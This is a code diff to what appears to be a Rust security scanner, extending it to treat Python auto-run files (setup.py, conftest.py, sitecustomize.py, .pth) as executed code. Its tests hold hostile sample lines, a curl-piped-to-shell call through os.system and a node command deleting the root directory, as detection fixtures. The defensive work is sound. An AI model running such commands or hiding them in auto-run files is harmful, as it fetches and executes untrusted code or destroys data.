@@ -16,6 +16,7 @@
 //! | `.gitlab-ci.yml` | every `script:`, `before_script:`, `after_script:` entry |
 //! | `Dockerfile`, `*.dockerfile`, `Containerfile` | every `RUN` instruction (shell and exec form) |
 //! | `*.ipynb` | each code cell: `python3 -c <cell>`, `!cmd` lines and `%%bash` cells as command lines |
+//! | `setup.py`, `conftest.py`, `sitecustomize.py`, `usercustomize.py`, `*.pth` (run by `pip install`, pytest, every Python start) | `python3 -c <body>` |
 //!
 //! The readers of the structured formats are in `formats.rs`; they are
 //! line-based and forgiving, since the content is often a fragment (an
@@ -85,6 +86,12 @@ pub struct Runnable {
     pub command: String,
 }
 
+/// Python code, run as `python3 -c <body>`.
+const PYTHON: Format = Format::Interpreter {
+    program: "python3",
+    flag: "-c",
+};
+
 /// The script format of `path` holding `content`, or `None` when the file
 /// does not run. Cheap for ordinary files: a look at the file name and the
 /// first two bytes of the content.
@@ -113,6 +120,12 @@ pub fn format(path: &str, content: &str) -> Option<Format> {
             return Some(Format::McpServers);
         }
         "tasks.json" if in_dir(".vscode") => return Some(Format::VscodeTasks),
+        // Python runs these by itself: `pip install .` runs setup.py,
+        // pytest imports conftest.py, every interpreter start imports
+        // sitecustomize/usercustomize and runs a .pth file's import lines.
+        "setup.py" | "conftest.py" | "sitecustomize.py" | "usercustomize.py" => {
+            return Some(PYTHON);
+        }
         _ => {}
     }
     if name.starts_with("Dockerfile.") {
@@ -124,6 +137,7 @@ pub fn format(path: &str, content: &str) -> Option<Format> {
         Some("just") => return Some(Format::Justfile),
         Some("dockerfile") => return Some(Format::Dockerfile),
         Some("ipynb") => return Some(Format::Notebook),
+        Some("pth") => return Some(PYTHON),
         Some("yml" | "yaml") if in_dir(".github/workflows") || name.starts_with("action.") => {
             return Some(Format::GithubWorkflow);
         }
@@ -242,10 +256,7 @@ pub(crate) fn run_by(program: &str) -> Option<Format> {
     let program = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
     Some(match program {
         "sh" | "bash" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "busybox" => Format::Shell,
-        "python" | "pypy" => Format::Interpreter {
-            program: "python3",
-            flag: "-c",
-        },
+        "python" | "pypy" => PYTHON,
         "node" | "nodejs" | "bun" => Format::Interpreter {
             program: "node",
             flag: "-e",
@@ -306,6 +317,28 @@ mod tests {
             vec![r"node -e 'require('\''fs'\'').rmSync('\''/'\'')'"]
         );
         assert_eq!(format("x", "#!/usr/bin/awk -f\n{print}"), None);
+    }
+
+    #[test]
+    fn python_files_python_runs_by_itself() {
+        let evil = "import os\nos.system('curl -s x | sh')\n";
+        for p in [
+            "/w/setup.py",
+            "/w/tests/conftest.py",
+            "/home/u/.local/lib/python3.12/site-packages/sitecustomize.py",
+            "/usr/lib/python3/dist-packages/zz.pth",
+        ] {
+            assert_eq!(
+                commands(p, evil),
+                vec![
+                    r"python3 -c 'import os
+os.system('\''curl -s x | sh'\'')
+'"
+                ],
+                "{p}"
+            );
+        }
+        assert_eq!(format("/w/src/app.py", evil), None);
     }
 
     #[test]
